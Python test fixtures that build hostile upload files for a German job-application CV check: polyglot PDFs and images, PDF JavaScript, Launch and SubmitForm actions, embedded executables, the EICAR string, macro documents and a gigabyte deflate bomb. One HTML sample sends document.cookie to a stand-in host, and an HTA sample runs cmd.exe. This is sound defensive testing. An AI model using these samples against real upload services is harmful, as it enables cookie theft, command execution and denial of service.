"""Hostile files as an attacker sends them to an upload, built in the test (no binary fixtures): each one a
way a document can run something, hide something or blow up on a clerk's computer. The core tests check
each refusal's code, the job application's tests send them through the CV upload."""

import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTA = b'\n<HTA:APPLICATION ID="lebenslauf" WINDOWSTATE="minimize">\n<script language="VBScript">CreateObject("WScript.Shell").Run "cmd.exe"</script>\n'
HTML = b"\n<html><body><script>location='https://example.org/'+document.cookie</script></body></html>\n"
# A Windows program's first bytes, stub text included, as a PE file has them.
WINDOWS_PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64
)
GIB = 1024 * 1024 * 1024


def pdf(
    build: Callable[[pikepdf.Pdf], None] | None = None, *, object_streams: bool = False, compress: bool = True
) -> bytes:
    """A one-page PDF made by pikepdf, changed by `build` before it is saved; `compress` as most tools do."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    document.pages[0].Contents = document.make_stream(b"BT /F1 12 Tf 72 770 Td (Lebenslauf) Tj ET")
    if build is not None:
        build(document)
    output = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    document.save(output, object_stream_mode=mode, compress_streams=compress)
    return output.getvalue()


def image(kind: str) -> bytes:
    """An 8×8 white picture as PNG or JPEG, as a phone or scanner saves it."""
    output = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(output, format=kind)
    return output.getvalue()


def zip_archive(entries: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return output.getvalue()


def _open_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def build(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(action)

    return build


def _script_in_names(document: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('Hallo')"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), script])))


def _script_on_opening_a_page(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.launchURL('x')")))


def _link(uri: str) -> Callable[[pikepdf.Pdf], None]:
    def build(document: pikepdf.Pdf) -> None:
        link = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, 700, 300, 720]),
            A=Dictionary(S=Name.URI, URI=String(uri)),
        )
        document.pages[0].Annots = document.make_indirect(Array([document.make_indirect(link)]))

    return build


def _xfa_form(document: pikepdf.Pdf) -> None:
    xdp = document.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
        b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>'
    )
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=xdp)


def _attachment(document: pikepdf.Pdf) -> None:
    program = b"MZ\x90\x00" + b"\x00" * 200
    document.attachments["Bewerbungstool.exe"] = pikepdf.AttachedFileSpec(document, program)


def _file_attachment_annotation(document: pikepdf.Pdf) -> None:
    embedded = Stream(document, zlib.compress(b"MZ\x90\x00" + b"\x00" * 200))
    embedded.Filter = Name.FlateDecode
    embedded.Type = Name.EmbeddedFile
    specification = Dictionary(Type=Name.Filespec, F=String("zeugnis.exe"), EF=Dictionary(F=embedded))
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 72, 90, 90]), FS=specification
    )
    document.pages[0].Annots = Array([document.make_indirect(annotation)])


def _rich_media(document: pikepdf.Pdf) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([72, 72, 300, 300]))
    document.pages[0].Annots = Array([document.make_indirect(annotation)])


def _program_in_a_stream(document: pikepdf.Pdf) -> None:
    document.Root.Hidden = document.make_stream(WINDOWS_PROGRAM)


def _zip_in_a_stream(document: pikepdf.Pdf) -> None:
    # At the end of the file, where ZIP tools look for the archive's directory.
    document.Root.Hidden = document.make_stream(zip_archive({"run.bat": b"start cmd.exe"}))


def _eicar_after_the_first_4096_bytes(document: pikepdf.Pdf) -> None:
    document.Root.Padding = document.make_stream(b"%" + b" " * 5000 + b"\n" + EICAR)


def deflate_bomb(size: int = GIB) -> bytes:
    """A zlib stream of `size` zero bytes in about size/1000 bytes, built without ever holding or inflating
    it: one megabyte compressed once and repeated (a full flush makes each copy stand alone), then the end
    block and the Adler-32 of that many zeros, which is (size mod 65521) << 16 | 1."""
    megabyte = 1024 * 1024
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\x00" * megabyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler = ((size % 65521) << 16) | 1
    return b"\x78\xda" + block * (size // megabyte) + b"\x03\x00" + adler.to_bytes(4, "big")


def _inflation_bomb(document: pikepdf.Pdf) -> None:
    bomb = Stream(document, deflate_bomb())
    bomb.Filter = Name.FlateDecode
    document.pages[0].Contents = document.make_indirect(bomb)


@dataclass(frozen=True)
class Hostile:
    kind: str
    name: str
    content: bytes
    code: str
    message: str  # a part of the German refusal


def hostile_files() -> list[Hostile]:
    """Every kind of hostile file, with the name it was sent under and how the check refuses it."""
    script, pdf_script = "Skripten oder Webseiten-Code", "Die PDF-Datei enthält Skripte"
    program, hidden = "Programmdateien nehmen wir", "außer dem Dokument noch weitere Daten"
    action, embedded = "Programme starten, andere Dateien öffnen", "eingebettete Dateien"
    return [
        Hostile("pdf-followed-by-hta", "Lebenslauf.hta", pdf() + HTA, "script", script),
        Hostile("pdf-followed-by-html", "Lebenslauf.html", pdf() + HTML, "script", script),
        Hostile("pdf-followed-by-a-program", "Lebenslauf.pdf.exe", pdf() + WINDOWS_PROGRAM, "executable", program),
        Hostile("pdf-followed-by-a-zip", "Lebenslauf.pdf", pdf() + zip_archive({"a.txt": b"x"}), "polyglot", hidden),
        Hostile("pdf-followed-by-other-data", "Lebenslauf.pdf", pdf() + b"\x01\x02Nachtrag", "polyglot", hidden),
        Hostile("html-followed-by-pdf", "Lebenslauf.pdf", HTML.lstrip() + pdf(), "script", script),
        Hostile("data-before-the-pdf-header", "Lebenslauf.pdf", b"GIF89a;\n" + pdf(), "polyglot", hidden),
        Hostile("pdf-with-a-zip-inside", "Lebenslauf.pdf", pdf(_zip_in_a_stream, compress=False), "polyglot", hidden),
        Hostile(
            "pdf-with-a-program-inside",
            "Lebenslauf.pdf",
            pdf(_program_in_a_stream, compress=False),
            "executable",
            program,
        ),
        Hostile("pdf-with-a-compressed-program", "Lebenslauf.pdf", pdf(_program_in_a_stream), "executable", program),
        Hostile("xfa-form", "Formular.pdf", pdf(_xfa_form), "xfa", "XFA-Formular"),
        Hostile("xfa-form-uncompressed", "Formular.pdf", pdf(_xfa_form, compress=False), "script", script),
        Hostile(
            "launch-cmd-exe",
            "Lebenslauf.pdf",
            pdf(_open_action(Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))))),
            "action",
            action,
        ),
        Hostile(
            "submit-form",
            "Lebenslauf.pdf",
            pdf(_open_action(Dictionary(S=Name.SubmitForm, F=String("https://example.org/sammeln")))),
            "action",
            action,
        ),
        Hostile(
            "import-data",
            "Lebenslauf.pdf",
            pdf(_open_action(Dictionary(S=Name.ImportData, F=String("C:\\Users\\daten.fdf")))),
            "action",
            action,
        ),
        Hostile(
            "go-to-embedded",
            "Lebenslauf.pdf",
            pdf(_open_action(Dictionary(S=Name.GoToE, D=Array([0, Name.Fit])))),
            "action",
            action,
        ),
        Hostile("rich-media", "Lebenslauf.pdf", pdf(_rich_media), "action", action),
        Hostile("link-to-a-windows-share", "Lebenslauf.pdf", pdf(_link("file://server/freigabe/x")), "action", action),
        Hostile("embedded-program", "Lebenslauf.pdf", pdf(_attachment), "embedded", embedded),
        Hostile("file-attachment-annotation", "Lebenslauf.pdf", pdf(_file_attachment_annotation), "embedded", embedded),
        Hostile(
            "javascript-on-opening",
            "Lebenslauf.pdf",
            pdf(_open_action(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))),
            "script",
            pdf_script,
        ),
        Hostile("javascript-in-names", "Lebenslauf.pdf", pdf(_script_in_names), "script", pdf_script),
        Hostile(
            "javascript-in-an-object-stream",
            "Lebenslauf.pdf",
            pdf(_open_action(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))), object_streams=True),
            "script",
            pdf_script,
        ),
        Hostile("javascript-on-a-page", "Lebenslauf.pdf", pdf(_script_on_opening_a_page), "script", pdf_script),
        Hostile("javascript-link", "Lebenslauf.pdf", pdf(_link("javascript:app.alert(1)")), "script", pdf_script),
        Hostile(
            "eicar-after-byte-4096",
            "Lebenslauf.pdf",
            pdf(_eicar_after_the_first_4096_bytes, compress=False),
            "malware",
            "schädlich",
        ),
        Hostile(
            "eicar-in-a-compressed-stream",
            "Lebenslauf.pdf",
            pdf(_eicar_after_the_first_4096_bytes),
            "malware",
            "schädlich",
        ),
        Hostile("inflation-bomb", "Lebenslauf.pdf", pdf(_inflation_bomb), "pdf_bomb", "übermäßig groß"),
        Hostile("png-followed-by-html", "foto.png", image("PNG") + HTML, "script", script),
        Hostile("png-followed-by-a-zip", "foto.png", image("PNG") + zip_archive({"a.js": b"x"}), "polyglot", hidden),
        Hostile("jpeg-followed-by-a-script", "foto.jpg", image("JPEG") + HTA, "script", script),
        Hostile("jpeg-followed-by-a-zip", "foto.jpg", image("JPEG") + zip_archive({"a.js": b"x"}), "polyglot", hidden),
        Hostile("jpeg-followed-by-other-data", "foto.jpg", image("JPEG") + b"\x01Nachtrag", "polyglot", hidden),
        Hostile("truncated-png", "foto.png", image("PNG")[:-20], "broken", "Das Bild ist beschädigt"),
        Hostile("windows-program", "Lebenslauf.pdf", WINDOWS_PROGRAM, "executable", program),
        Hostile("elf-program", "Lebenslauf.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "executable", program),
        Hostile(
            "word-file", "Lebenslauf.docx", zip_archive({"[Content_Types].xml": b"<Types/>"}), "zip", "ZIP-Archive"
        ),
        Hostile(
            "word-file-with-macros",
            "Lebenslauf.docm",
            zip_archive({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"\x00" * 64}),
            "macro",
            "Makros",
        ),
        Hostile(
            "old-word-file", "Lebenslauf.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "macro", "Makros"
        ),
        Hostile("encrypted-pdf", "Lebenslauf.pdf", _encrypted_pdf(), "encrypted", "Passwort"),
        Hostile("broken-pdf", "Lebenslauf.pdf", pdf()[:300], "broken", "beschädigt"),
        Hostile("empty-file", "Lebenslauf.pdf", b"", "empty", "Die Datei ist leer"),
        Hostile(
            "svg",
            "foto.svg",
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            "script",
            script,
        ),
    ]


def _encrypted_pdf() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    output = io.BytesIO()
    document.save(output, encryption=pikepdf.Encryption(user="geheim", owner="geheim"))
    return output.getvalue()
